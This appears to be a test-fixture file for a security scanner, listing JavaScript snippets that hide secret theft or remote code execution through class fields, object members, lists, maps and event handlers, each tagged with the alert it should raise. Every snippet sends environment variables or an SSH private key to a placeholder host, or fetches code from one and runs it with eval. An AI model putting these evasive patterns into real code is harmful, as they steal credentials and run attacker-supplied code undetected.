import type { Evasion } from './evasion.js';

const SEND = (what: string): string => `fetch("https://c.example.org/x", { method: "POST", body: JSON.stringify(${what}) })`;

/** Private data, and code from servers, that take a way through objects, lists, fields and events. */
export const STORED: readonly Evasion[] = [
  ['field of this', `class A { constructor() { this.e = process.env } send() { ${SEND('this.e')} } } new A().send()`, 'data-leak critical'],
  ['field of a class', `class A { e = process.env; send() { ${SEND('this.e')} } } new A().send()`, 'data-leak critical'],
  ['member of an object that is sent', `const o = {}; o.e = process.env; ${SEND('o')}`, 'data-leak critical'],
  ['member that is sent', `const o = {}; o.e = process.env; ${SEND('o.e')}`, 'data-leak critical'],
  ['member of a member', `const o = { a: {} }; o.a.e = process.env; ${SEND('o')}`, 'data-leak critical'],
  ['list', `const l = []; l.push(process.env); ${SEND('l')}`, 'data-leak critical'],
  ['list of all variables', `const l = []; for (const k in process.env) l.push(k + "=" + process.env[k]); ${SEND('l.join()')}`, 'data-leak critical'],
  ['copy by index', `const d = {}; for (const k of Object.keys(process.env)) d[k] = process.env[k]; ${SEND('d')}`, 'data-leak critical'],
  ['map', `const m = new Map(); m.set("e", process.env); ${SEND('[...m]')}`, 'data-leak critical'],
  ['form', `const f = new FormData(); f.append("e", JSON.stringify(process.env)); fetch("https://c.example.org/x", { method: "POST", body: f })`, 'data-leak critical'],
  ['file in a member', 'const fs = require("fs"); const o = {}; o.k = fs.readFileSync(require("os").homedir() + "/.ssh/id_rsa"); require("https").request("https://c.example.org").end(o.k)', 'data-leak critical'],
  ['event of a socket', 'const w = new WebSocket("wss://c.example.org"); w.onmessage = (e) => eval(e.data)', 'remote-code critical'],
  ['events of a server', 'const s = new EventSource("https://c.example.org"); s.onmessage = function ({ data }) { Function(data)() }', 'remote-code critical'],
  ['answer of a request', 'const x = new XMLHttpRequest(); x.onload = function () { eval(this.responseText) }; x.open("GET", "https://c.example.org/a"); x.send()', 'remote-code critical'],
];
